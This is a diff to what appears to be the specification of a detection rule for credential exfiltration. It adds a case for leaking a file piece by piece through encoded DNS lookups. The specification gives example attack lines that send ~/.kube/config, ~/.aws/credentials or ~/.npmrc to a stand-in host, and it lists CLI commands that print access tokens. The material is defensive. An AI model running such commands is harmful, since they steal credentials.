@@ -142,8 +142,10 @@ server's name and its own, and the kind of resource its arguments name. The rule
   (Get-Content …)``, piped in), put by the script of ``sftp``, ``ftp``, ``lftp`` or
   ``smbclient`` (``sftp h <<< 'put ~/.kube/config'``, a here-document, ``-b`` batch file
   written in the line, ``-c``), looked up as a name (``dig $(… ~/.aws/credentials
-  …).x.com``), or by a one-liner whose socket, HTTP client or DNS lookup carries one or the
-  whole environment (``IO::Socket``, ``socket``, ``requests``, ``fetch``, ``%ENV``,
+  …).x.com``), a piece at a time by a loop over its encoding (``for l in $(xxd -p ~/.npmrc);
+  do dig $l.x.com; done``, ``base64 F | while read l``) whose body gives the variable to a
+  lookup or a sender, or by a one-liner whose socket, HTTP client or DNS lookup carries one
+  or the whole environment (``IO::Socket``, ``socket``, ``requests``, ``fetch``, ``%ENV``,
   ``dict(os.environ)``); likewise a credential a CLI prints (``gh auth token``, ``aws
   configure export-credentials``, ``gcloud auth print-access-token``, ``az account
   get-access-token``, ``kubectl config view --raw``, ``kubectl get secret -o yaml``), but
